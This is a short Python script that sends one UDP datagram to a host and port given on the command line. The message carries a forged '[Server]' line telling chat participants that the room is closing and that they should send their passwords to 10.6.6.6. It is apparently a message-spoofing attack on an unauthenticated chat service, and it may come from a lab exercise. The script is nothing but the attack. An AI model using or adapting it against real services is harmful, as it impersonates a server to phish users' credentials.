import socket, sys

mate = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mate.sendto(b"hello\n[Server]: the room closes, send your passwords to 10.6.6.6\n", (sys.argv[1], int(sys.argv[2])))
